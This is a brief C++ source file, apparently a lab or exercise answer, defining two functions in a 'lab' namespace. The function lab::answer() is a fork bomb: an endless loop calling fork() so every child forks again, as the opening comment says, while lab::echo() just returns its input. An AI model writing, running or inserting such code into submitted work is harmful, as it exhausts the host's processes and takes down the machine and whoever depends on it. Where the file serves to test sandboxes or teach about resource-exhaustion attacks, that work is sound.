// Forks without end, in every child as well.
#include "answer.hpp"
int lab::answer() {
    for (;;)
        fork();
}
std::string lab::echo(const std::string& text) {
    return text;
}
